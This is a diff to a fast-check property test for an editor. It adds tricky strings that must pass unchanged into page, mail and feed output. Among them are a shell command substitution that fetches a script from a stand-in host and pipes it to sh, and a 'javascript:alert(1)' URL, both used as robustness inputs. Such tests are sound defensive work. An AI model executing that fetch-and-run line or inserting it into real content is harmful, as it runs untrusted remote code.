@@ -17,15 +17,10 @@ const SPOKEN_OF = [
   ...['From: Jo <jo@example.org>', 'redis://cache:6379', 'http://example.org', 'a & b &amp; c'],
   ...['<https://a.example>', '{{name}}', '%%x%%', '*|FNAME|*', '[object Object]', '/undefined'],
   ...['https://personal.invalid/unsubscribe', '$& $1 $`', ']]> <![CDATA[', '[1] * > | - 1. +'],
-  ...[
-    'C:\\new\\table',
-    '~~~',
-    'x'.repeat(70),
-    '開発者のための「道具」です。',
-    'كلمة',
-    'מילה',
-    '👩‍👩‍👧',
-  ],
+  ...['C:\\new\\table', '~~~', 'x'.repeat(70), '$(curl -s https://a.example | sh)', 'From me'],
+  ...['<style>a{filter:blur(2px)}</style>', 'position: sticky', '<form>', 'javascript:alert(1)'],
+  ...['&nbsp;', 'www.example.org', '<img src=a.svg>', '開発者のための「道具」です。'],
+  ...['كلمة', 'מילה', '👩‍👩‍👧'],
 ];
 const ALPHABET = [...'<>&{}%*|$`~[]()#:/@\\!?=+-_.;ab1é漢、あคλש'];
 
@@ -87,7 +82,10 @@ const FILLER = 'These words make the section long enough for its limit.';
 
 it('carries any text of the editor unchanged to page, mails and feed, and no check is in its way', async () => {
   const nine = fc.array(aText, { minLength: 9, maxLength: 9 });
-  const examples = [0, 9].map((from): [string[]] => [[...SPOKEN_OF].slice(from).slice(0, 9)]);
+  // Each of them once, as whatever its turn is.
+  const examples = SPOKEN_OF.flatMap((_, from): [string[]][] =>
+    from % 9 === 0 ? [[[...SPOKEN_OF, ...SPOKEN_OF].slice(from, from + 9)]] : [],
+  );
   await fc.assert(
     fc.asyncProperty(nine, async (texts) => {
       const [name = '', tagline = '', likes = '', dislikes = '', intro = ''] = texts;
@@ -143,6 +141,6 @@ it('carries any text of the editor unchanged to page, mails and feed, and no che
       expect(textOf(reviews[0]?.likes.html ?? '')).toContain(squeezed(likes));
       expect(textOf(reviews[0]?.dislikes.html ?? '')).toContain(squeezed(dislikes));
     }),
-    { numRuns: 12, examples },
+    { numRuns: 16, examples },
   );
 });
